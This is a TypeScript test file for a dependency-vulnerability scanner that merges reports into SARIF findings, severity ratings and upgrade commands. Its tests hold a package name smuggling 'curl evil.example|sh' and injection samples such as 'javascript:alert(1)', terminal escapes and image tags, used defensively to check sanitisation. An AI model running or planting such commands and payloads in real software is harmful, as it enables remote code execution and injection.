import type { Finding } from '@railgate/contract';
import { buildRun, schemaViolations, toLog } from '@railgate/sarif/run';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import type { Report } from '../src/engines/engine.js';
import { rules } from '../src/rules/index.js';
import { judge } from './judge.js';
import { answersOf, dependenciesOf, report, type MadeLockfile, type MadePackage } from './made.js';

const LODASH: MadePackage = { name: 'lodash', version: '4.17.20' };

function findingsOf(
  lockfile: MadeLockfile | readonly MadeLockfile[],
  reports: readonly Report[],
  more: Partial<Parameters<typeof judge>[0]> = {},
): readonly Finding[] {
  const lockfiles = Array.isArray(lockfile) ? (lockfile as MadeLockfile[]) : [lockfile as MadeLockfile];
  return judge({ dependencies: dependenciesOf(lockfiles), answers: answersOf({ osv: { reports } }), ...more })
    .findings;
}

function one(findings: readonly Finding[]): Finding {
  expect(findings).toHaveLength(1);
  return findings[0] as Finding;
}

describe('ok', () => {
  it('finds nothing where a proven engine reports nothing', () => {
    expect(findingsOf({ packages: [LODASH] }, [])).toEqual([]);
  });

  it('takes what the repository makes itself for no dependency', () => {
    expect(findingsOf({ packages: [{ ...LODASH, source: 'workspace' }, { name: 'a' }] }, [])).toEqual([]);
  });
});

describe('ng: one finding per vulnerability, package, version and file', () => {
  it('names the package, who saw it and who did not, the ids, the fix and the command', () => {
    const { findings, rules: made } = judge({
      dependencies: dependenciesOf([{ packages: [LODASH] }]),
      answers: answersOf({ osv: { reports: [report()] }, 'npm-audit': {} }),
    });
    const finding = one(findings);
    expect(finding).toMatchObject({
      ruleId: 'CVE-2021-23337',
      severity: 'high',
      at: { path: 'package-lock.json', region: { startLine: 10 } },
      related: [{ path: 'package.json', region: { startLine: 3 } }],
      engine: 'osv',
      subject: {
        purl: 'pkg:npm/lodash@4.17.20',
        advisories: ['CVE-2021-23337', 'GHSA-35jh-r3h4-6jhm'],
        sources: [{ engine: 'osv', id: 'GHSA-35jh-r3h4-6jhm', severity: 'high', score: 7.2 }],
      },
    });
    expect(finding.message).toBe(
      'lodash@4.17.20, a direct dependency, is vulnerable: Command Injection in lodash. ' +
        'Severity high by CVSS 3.1 score 7.2 (osv). Known as CVE-2021-23337, GHSA-35jh-r3h4-6jhm. ' +
        'Seen by osv; not by npm-audit. Fixed in 4.17.21: the range * allows it: `npm update lodash`.',
    );
    expect(made).toMatchObject([
      {
        id: 'CVE-2021-23337',
        name: 'Cve202123337',
        summary: 'Command Injection in lodash.',
        helpUri: 'https://osv.dev/vulnerability/GHSA-35jh-r3h4-6jhm',
      },
    ]);
  });

  it('does not name who reads no lockfile of that kind', () => {
    const yarn = { format: 'yarn-classic', path: 'yarn.lock', packages: [LODASH] } as const;
    const answers = answersOf({ osv: { reports: [report()] }, 'npm-audit': {}, 'osv-scanner': {} });
    const { findings } = judge({ dependencies: dependenciesOf([yarn]), answers });
    expect(one(findings).message).toContain('Seen by osv; not by osv-scanner. ');
  });

  it('joins what engines call differently, also over a third name', () => {
    const reports = [
      report({ ids: ['GHSA-35jh-r3h4-6jhm'], title: 'As osv says it' }),
      report({ engine: 'osv.dev', ids: ['CVE-2021-23337'] }),
      report({ engine: 'npm-audit', ids: ['GHSA-35jh-r3h4-6jhm', 'CVE-2021-23337'] }),
    ];
    const finding = one(findingsOf({ packages: [LODASH] }, reports));
    expect(finding.engine).toBe('osv, osv.dev, npm-audit');
    expect(finding.message).toContain('is vulnerable: As osv says it.');
  });

  it('keeps packages apart that share an id, and gives them one rule', () => {
    const reports = [report(), report({ name: 'lodash-es', title: 'The same in lodash-es' })];
    const packages = [LODASH, { name: 'lodash-es', version: '4.17.20' }];
    const judged = judge({
      dependencies: dependenciesOf([{ packages }]),
      answers: answersOf({ osv: { reports } }),
    });
    expect(judged.findings).toHaveLength(2);
    expect(judged.rules.map(({ id }) => id)).toEqual(['CVE-2021-23337']);
  });

  it('says it once for each lockfile and version, however often a lockfile holds it', () => {
    const twice = {
      packages: [
        { ...LODASH, line: 40 },
        { ...LODASH, line: 20, direct: false },
      ],
    };
    const other = { path: 'b/package-lock.json', packages: [LODASH, { ...LODASH, version: '4.17.19' }] };
    const findings = findingsOf([twice, other], [report(), report({ version: '4.17.19' })]);
    expect(findings.map(({ at }) => `${at.path}:${at.region.startLine}`).sort()).toEqual([
      'b/package-lock.json:10',
      'b/package-lock.json:11',
      'package-lock.json:20',
    ]);
  });

  it('says which way an indirect dependency came', () => {
    const packages = [
      { name: 'app', dependencies: [1] },
      { name: 'mid', direct: false, dependencies: [2, 0] },
      { ...LODASH, direct: false },
    ];
    const { message, related } = one(findingsOf({ packages }, [report()]));
    expect(message).toContain(
      'lodash@4.17.20, brought by app@1.0.0 > mid@1.0.0 > lodash@4.17.20, is vulnerable',
    );
    expect(message).toContain(
      'Fixed in 4.17.21: `npm update lodash` is enough where the range of mid@1.0.0 allows 4.17.21; ' +
        'otherwise upgrade app@1.0.0, which brings it; as a last resort force 4.17.21 with `overrides` of package.json.',
    );
    expect(related).toMatchObject([{ path: 'package.json', region: { startLine: 3 } }]);
  });

  it('writes the version where the range does not allow it, in the project that asks for it', () => {
    const requirements = [{ name: 'lodash', kind: 'dev' as const, range: '4.17.20', target: 0, line: 7 }];
    const projects = [
      { requirements: [] },
      { path: 'apps/web', manifest: 'apps/web/package.json', requirements },
    ];
    const { message, related } = one(findingsOf({ packages: [LODASH], projects }, [report()]));
    expect(message).toContain('`npm install --save-dev lodash@4.17.21 --workspace apps/web`.');
    expect(related?.[0]?.path).toBe('apps/web/package.json');
  });

  it.each([
    ['pnpm-lock', '`pnpm update lodash@4.17.21`'],
    ['yarn-classic', '`yarn upgrade lodash@4.17.21`'],
    ['yarn-berry', '`yarn up lodash@4.17.21`'],
    ['bun-lock', '`bun add lodash@4.17.21`'],
  ] as const)('knows the command of %s', (format, command) => {
    const requirements = [{ name: 'lodash', kind: 'prod' as const, range: '4.17.20', target: 0 }];
    const lockfile = { format, packages: [LODASH], projects: [{ requirements }] };
    expect(one(findingsOf(lockfile, [report()])).message).toContain(command);
  });

  it('knows those of Python', () => {
    const jinja = { name: 'jinja2', version: '2.10' };
    const word = report({
      ...jinja,
      ecosystem: 'PyPI',
      ids: ['PYSEC-2019-217'],
      fixed: ['2.11.3', '2.10.1'],
    });
    const python = { ecosystem: 'PyPI' as const, packages: [jinja], projects: [] };
    const answers = answersOf({ osv: { reports: [word], ecosystems: ['PyPI'] } });
    const say = (lockfile: MadeLockfile) =>
      one(findingsOf({ ...python, ...lockfile }, [], { answers })).message;
    expect(say({ format: 'requirements', path: 'requirements.txt' })).toContain(
      'Fixed in 2.10.1, 2.11.3: write into requirements.txt jinja2==2.10.1 or later.',
    );
    expect(say({ format: 'poetry-lock', path: 'poetry.lock' })).toContain('`poetry add "jinja2>=2.10.1"`');
    expect(say({ format: 'uv-lock', path: 'uv.lock' })).toContain('`uv add "jinja2>=2.10.1"`');
  });

  it('knows that `go get` does not change what is replaced', () => {
    const module = { name: 'golang.org/x/crypto', version: 'v0.1.0' };
    const word = report({ ...module, ecosystem: 'Go', ids: ['GO-2023-2402'], fixed: ['0.17.0'] });
    const answers = answersOf({ osv: { reports: [word], ecosystems: ['Go'] } });
    const say = (range: string) => {
      const requirements = [{ name: module.name, kind: 'prod' as const, range, target: 0 }];
      const projects = [{ manifest: 'go.mod', requirements }];
      const go = { ecosystem: 'Go', format: 'go-mod', path: 'go.mod', packages: [module], projects } as const;
      return one(findingsOf(go, [], { answers })).message;
    };
    expect(say('v0.1.0')).toContain('`go get golang.org/x/crypto@v0.17.0`.');
    expect(say('v0.54.0')).toContain('write into go.mod golang.org/x/crypto 0.17.0 or later');
  });

  it('never prints a command that a shell would take apart', () => {
    const name = 'lodash;curl evil.example|sh';
    const findings = findingsOf({ packages: [{ name, version: '1.0.0' }] }, [
      report({ name, version: '1.0.0', fixed: ['1.0.1'] }),
    ]);
    expect(one(findings).message).not.toContain('`');
  });

  it('names the version that fixes all that is reported of a package', () => {
    const words = [
      report({ ids: ['CVE-1-1'], fixed: ['4.17.21', '5.3.0'] }),
      report({ ids: ['CVE-1-2'], fixed: ['5.1.0'] }),
    ];
    const [first, second] = findingsOf({ packages: [LODASH] }, words).map(({ message }) => message);
    expect(first).toContain('5.3.0 is the first without any of the 2 that are reported of it here.');
    expect(second).toContain('5.3.0 is the first without');
    const [unfixed] = findingsOf({ packages: [LODASH] }, [...words, report({ ids: ['CVE-1-3'], fixed: [] })]);
    expect(unfixed?.message).not.toContain('is the first without');
  });

  it('counts a vulnerability of a file that only an engine reads', () => {
    const word = report({
      ecosystem: 'RubyGems',
      name: 'rack',
      version: '2.0.0',
      path: 'vendor/gems.locked',
    });
    expect(one(findingsOf({ packages: [{ name: 'a' }] }, [word]))).toMatchObject({
      at: { path: 'vendor/gems.locked', region: { startLine: 1 } },
    });
  });
});

describe('severity', () => {
  const severityOf = (reports: Report[], more: object = {}, one_: MadePackage = LODASH) => {
    const { severity, message } = one(findingsOf({ packages: [one_] }, reports, more));
    return { severity, message };
  };
  const unrated = (): Report => ({
    engine: 'osv',
    ecosystem: 'npm',
    ...LODASH,
    version: '4.17.20',
    ids: ['CVE-2021-23337'],
    title: 'T',
  });

  it('is the highest that anybody gave, with its source', () => {
    const reports = [
      report({ severity: 'medium', score: 5.3 }),
      report({ engine: 'npm-audit', severity: 'critical', severitySource: 'GHSA', score: 9.8 }),
    ];
    expect(severityOf(reports)).toMatchObject({
      severity: 'critical',
      message: expect.stringContaining('Severity critical by GHSA score 9.8 (npm-audit).') as string,
    });
  });

  it('is high where nobody rated it', () => {
    expect(severityOf([unrated()])).toMatchObject({
      severity: 'high',
      message: expect.stringContaining('Nobody rated it') as string,
    });
  });

  it('is critical where it is exploited, and says since when', () => {
    const signals = (cve: string) =>
      cve === 'CVE-2021-23337' ? { kev: '2026-01-02', epss: 0.01 } : undefined;
    expect(severityOf([report()], { signals })).toMatchObject({
      severity: 'critical',
      message: expect.stringContaining('(CISA KEV, 2026-01-02)') as string,
    });
  });

  it.each([
    [0.5, 'critical'],
    [0.49, 'high'],
  ])('with an EPSS of %d is %s', (epss, severity) => {
    const judged = severityOf([report()], { signals: () => ({ epss }) });
    expect(judged.severity).toBe(severity);
    expect(judged.message).toContain(`EPSS ${(epss * 100).toFixed(1)} %.`);
  });

  it.each([
    ['report', 'high'],
    ['lower', 'medium'],
    ['ignore', 'info'],
  ] as const)('of a development dependency with %s is %s', (developmentDependencies, severity) => {
    const judged = severityOf([report()], { options: { developmentDependencies } }, { ...LODASH, dev: true });
    expect(judged.severity).toBe(severity);
    expect(judged.message.includes('`developmentDependencies`')).toBe(developmentDependencies !== 'report');
  });

  it.each([
    ['report', 'high'],
    ['lower', 'medium'],
    ['ignore', 'info'],
  ] as const)('without any later fixed version with %s is %s', (unfixable, severity) => {
    const judged = severityOf([report({ fixed: ['3.0.0'] })], { options: { unfixable } });
    expect(judged.severity).toBe(severity);
    expect(judged.message).toContain('No fixed version is known');
  });

  it('of a malicious package is critical whatever the policy, the ratings and the place', () => {
    fc.assert(
      fc.property(
        fc.constantFrom<Partial<Report>>(
          { malicious: true },
          { ids: ['MAL-2026-1'] },
          { ids: ['GHSA-aaaa-bbbb-cccc', 'mal-2026-1'] },
        ),
        fc.constantFrom('report', 'lower', 'ignore'),
        fc.constantFrom('report', 'lower', 'ignore'),
        fc.boolean(),
        fc.constantFrom(undefined, 'low', 'info'),
        (malicious, developmentDependencies, unfixable, dev, severity) => {
          const word = {
            ...unrated(),
            ...malicious,
            fixed: [],
            ...(severity && { severity: severity as 'low' }),
          };
          const options = { developmentDependencies, unfixable };
          const judged = severityOf([word], { options }, { ...LODASH, dev });
          expect(judged.severity).toBe('critical');
          expect(judged.message).toContain('is malicious');
        },
      ),
    );
  });
});

describe('hostile text', () => {
  const evil = '\u001b[31mred\r\n![x](http://evil.example/x.png) <img src=x> \u202e'.repeat(300);
  const word = report({
    title: evil,
    details: evil,
    ids: [`EVIL-${evil}`, 'CVE-2021-23337'],
    range: evil,
    severitySource: evil,
    references: ['javascript:alert(1)', 'https://example.org/a b', 'https://example.org/fine'],
    cwes: [79, -1, 0.5],
  });

  it('is one line of bounded length in which nothing acts', () => {
    const judged = judge({
      dependencies: dependenciesOf([{ packages: [LODASH] }]),
      answers: answersOf({ osv: { reports: [word] } }),
    });
    const texts: string[] = [];
    JSON.stringify([judged.findings, judged.rules], (_key, value: unknown) => {
      if (typeof value === 'string') texts.push(value);
      return value;
    });
    // eslint-disable-next-line no-control-regex -- these characters are what it is about
    const acting = /[\u0000-\u001f\u202e]|<img|\]\(/;
    expect(texts.filter((text) => acting.test(text))).toEqual([]);
    expect(one(judged.findings).message.length).toBeLessThan(3000);
    expect(judged.rules[0]?.summary.length).toBeLessThanOrEqual(1024);
    expect(judged.rules[0]?.description.length).toBeLessThanOrEqual(1024);
    expect(judged.rules[0]).toMatchObject({ references: ['https://example.org/fine'], cwe: [79] });
  });

  it('passes the schema of SARIF', () => {
    const {
      findings,
      rules: made,
      evidence,
      gaps,
    } = judge({
      dependencies: dependenciesOf([{ packages: [LODASH, { name: '__proto__' }] }]),
      answers: answersOf({ osv: { reports: [word, report({ name: '__proto__', version: '1.0.0' })] } }),
    });
    const meta = { id: 'sca', title: 'Railgate SCA' };
    const run = buildRun({ meta, target: 'root', rules: [...rules, ...made], findings, evidence, gaps });
    expect(schemaViolations(toLog([run]))).toEqual([]);
    expect(findings).toHaveLength(2);
  });
});

describe('the order of engines and reports', () => {
  const engines = ['osv', 'osv.dev', 'npm-registry', 'npm-audit'] as const;
  const anyReport = fc.record({
    engine: fc.constantFrom(...engines),
    name: fc.constantFrom('a', 'b'),
    version: fc.constantFrom('1.0.0', '2.0.0'),
    ids: fc
      .subarray(['CVE-1-1', 'GHSA-a', 'CVE-1-2', 'GHSA-b', 'MAL-1'], { minLength: 1, maxLength: 3 })
      .map((ids) => ids as [string, ...string[]]),
    title: fc.constantFrom('One', 'Two', ''),
    severity: fc.constantFrom('low' as const, 'high' as const),
    severitySource: fc.constantFrom('CVSS 3.1', 'GHSA'),
    fixed: fc.subarray(['1.0.1', '2.0.1', '3.0.0']),
    cwes: fc.subarray([79, 22]),
  });
  const packages = [
    { name: 'a', version: '1.0.0', dependencies: [1] },
    { name: 'b', version: '2.0.0', direct: false },
    { name: 'a', version: '2.0.0', direct: false, dev: true },
    { name: 'b', version: '1.0.0' },
  ];

  it('does not change the result', () => {
    fc.assert(
      fc.property(fc.array(anyReport, { maxLength: 12 }), fc.infiniteStream(fc.nat()), (drawn, order) => {
        const reports = drawn.map((some) => report(some));
        const shuffled = reports
          .map((some) => ({ some, at: order.next().value as number }))
          .sort((x, y) => x.at - y.at)
          .map(({ some }) => some);
        expect(outcome(shuffled, [...engines].reverse())).toEqual(outcome(reports, engines));
      }),
    );
  });

  function outcome(reports: readonly Report[], asked: readonly (typeof engines)[number][]): unknown {
    const answers = answersOf(
      Object.fromEntries(
        asked.map((name) => [name, { reports: reports.filter(({ engine }) => engine === name) }]),
      ),
    );
    const judged = judge({ dependencies: dependenciesOf([{ packages }]), answers });
    const meta = { id: 'sca', title: 'Railgate SCA' };
    const evidence = { engines: [], expected: {}, seen: {} };
    return buildRun({
      meta,
      target: 'root',
      rules: judged.rules,
      findings: judged.findings,
      evidence,
      gaps: [],
    });
  }
});
